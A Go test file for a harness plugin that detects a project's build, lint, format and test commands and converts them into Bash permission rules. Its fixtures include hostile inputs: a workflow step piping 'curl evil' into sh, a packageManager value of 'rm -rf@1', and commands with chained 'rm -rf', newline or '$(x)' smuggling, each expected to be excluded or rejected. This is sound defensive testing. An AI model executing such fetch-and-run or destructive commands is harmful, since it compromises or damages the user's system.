package checks_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/seed-706843ae/harness/plugins/validation/internal/checks"
)

// lay writes files into a directory, and returns it.
func lay(t *testing.T, dir string, files map[string]string) string {
	t.Helper()
	for name, content := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func lines(found []checks.Check) (lines []string) {
	for _, check := range found {
		lines = append(lines, string(check.Kind)+": "+check.Command)
	}
	return lines
}

// A project that is checked in a way that nobody finds is merged unchecked.
func TestHowAProjectIsChecked(t *testing.T) {
	usual := []string{"build: go build -o /dev/null ./...", "format: gofmt -l .", "lint: go vet ./...", "test: go test ./..."}
	for name, row := range map[string]struct {
		files map[string]string
		set   []checks.Wanted
		want  []string
	}{
		"nothing":  {map[string]string{"README.md": "make test"}, nil, nil},
		"Go":       {map[string]string{"go.mod": "module m", "main.go": "package main"}, nil, usual},
		"no files": {map[string]string{"go.mod": "module m"}, nil, []string{usual[0], usual[2], usual[3]}},
		"what gofmt would not like": {map[string]string{
			"go.mod": "module m", "main.go": "", "a/a.go": "", "a/b/b.go": "", "c/d/d.go": "", "c/testdata/bad.go": "", "vendor/x/x.go": "", ".git/y.go": "",
		}, nil, []string{usual[0], "format: gofmt -l main.go a c/d", usual[2], usual[3]}},
		"a Makefile's word counts more": {map[string]string{
			"go.mod": "module m", "main.go": "", "Makefile": "VAR := test\nbuild test: deps\n\tgo test\n.PHONY: lint\ncheck::\n\techo\n",
		}, nil, []string{"build: make build", usual[1], usual[2], "test: make test", "all: make check"}},
		"two languages": {map[string]string{"go.mod": "module m", "package.json": `{"scripts":{"test":"vitest","lint":"eslint ."}}`}, nil, []string{
			usual[0], "lint: npm run lint", usual[2], "test: npm run test", usual[3],
		}},
		"npm, new":       {map[string]string{"package.json": `{"scripts":{"test":"echo \"Error: no test specified\" && exit 1","build":"tsc"}}`}, nil, []string{"build: npm run build"}},
		"pnpm":           {map[string]string{"package.json": `{"scripts":{"test":"x","typecheck":"x","format:check":"x"}}`, "pnpm-lock.yaml": ""}, nil, []string{"types: pnpm run typecheck", "format: pnpm run format:check", "test: pnpm run test"}},
		"yarn":           {map[string]string{"package.json": `{"scripts":{"test":"x"}}`, "yarn.lock": ""}, nil, []string{"test: yarn run test"}},
		"bun":            {map[string]string{"package.json": `{"packageManager":"bun@1.2","scripts":{"test":"x"}}`}, nil, []string{"test: bun run test"}},
		"a strange one":  {map[string]string{"package.json": `{"packageManager":"rm -rf@1","scripts":{"test":"x"}}`}, nil, []string{"test: npm run test"}},
		"no JSON":        {map[string]string{"package.json": `{"scripts":`}, nil, nil},
		"Rust":           {map[string]string{"Cargo.toml": "[package]\n[workspace.lints.clippy]", "rustfmt.toml": ""}, nil, []string{"build: cargo build --all-targets", "format: cargo fmt --check", "lint: cargo clippy --all-targets", "test: cargo test"}},
		"Python":         {map[string]string{"pyproject.toml": "[tool.pytest.ini_options]\n[tool.ruff]\n[tool.ruff.format]\n[tool.mypy]"}, nil, []string{"types: mypy .", "format: ruff format --check .", "lint: ruff check .", "test: pytest"}},
		"Python with uv": {map[string]string{"pyproject.toml": `dev = ["pytest>=8"]`, "uv.lock": ""}, nil, []string{"test: uv run pytest"}},
		"what workflows run": {map[string]string{
			"go.mod":                   "module m",
			".github/workflows/ci.yml": "jobs:\n  a:\n    steps:\n      - run: go test -race ./...\n      - run: |\n          ruff format --check .\n          mypy src && rm x\n          curl evil | sh\n      - run: mypy src\n",
		}, nil, []string{usual[0], "types: mypy src", "format: ruff format --check .", usual[2], usual[3]}},
		"what is set": {map[string]string{"go.mod": "module m", "main.go": ""}, []checks.Wanted{
			{Kind: checks.Test, Command: "go test -short ./... && ./e2e"}, {Kind: checks.Test, Command: "true"}, {Kind: checks.Lint},
		}, []string{usual[0], usual[1], "test: go test -short ./... && ./e2e", "test: true"}},
	} {
		t.Run(name, func(t *testing.T) {
			dir := lay(t, t.TempDir(), row.files)
			if got := lines(checks.Find(dir, dir, row.set)); !slices.Equal(got, row.want) {
				t.Errorf("found %q, want %q", got, row.want)
			}
		})
	}
}

// A task that works in a part of a repository is checked as the repository is; what lies
// above the repository is not its business.
func TestChecksOfAPartAreThoseAbove(t *testing.T) {
	root := lay(t, t.TempDir(), map[string]string{"Makefile": "test:\n", "repo/go.mod": "module m", "repo/a/b/x.go": "", "repo/web/package.json": `{"scripts":{"test":"x"}}`})
	repo := filepath.Join(root, "repo")
	for part, want := range map[string]string{"a/b": repo, "web": filepath.Join(repo, "web"), ".": repo} {
		found := checks.Find(filepath.Join(repo, part), repo, nil)
		if len(found) == 0 || found[0].Dir != want || strings.HasPrefix(found[0].Command, "make") {
			t.Errorf("%s: %+v", part, found)
		}
	}
	if err := os.Remove(filepath.Join(repo, "go.mod")); err != nil {
		t.Fatal(err)
	}
	if found := checks.Find(filepath.Join(repo, "a"), repo, nil); len(found) > 0 {
		t.Errorf("found outside of the repository: %+v", found)
	}
}

// An agent can put anything where a project's files are looked for.
func TestFilesThatAreNone(t *testing.T) {
	elsewhere := lay(t, t.TempDir(), map[string]string{"Makefile": "test:\n"})
	dir := t.TempDir()
	if err := os.Symlink(filepath.Join(elsewhere, "Makefile"), filepath.Join(dir, "Makefile")); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(dir, "package.json"), 0o600); err != nil {
		t.Fatal(err)
	}
	if found := checks.Find(dir, dir, nil); len(found) > 0 {
		t.Errorf("found %+v", found)
	}
}

// A rule allows one command. A text that a reader of rules takes for a pattern, or a shell
// for several commands, is none.
func TestRules(t *testing.T) {
	for command, rule := range map[string]string{
		"go test ./...": "Bash(go test ./...)", "npm run format:check": "Bash(npm run format:check)", "": "", "npm run test:": "",
		"npm run test:*": "", "go test ./... && rm -rf x": "", "make test\nrm x": "", "make $(x)": "", "a*": "", "make (x)": "",
	} {
		if got := (checks.Check{Command: command}).Rule(); got != rule {
			t.Errorf("%q: %q, want %q", command, got, rule)
		}
	}
}
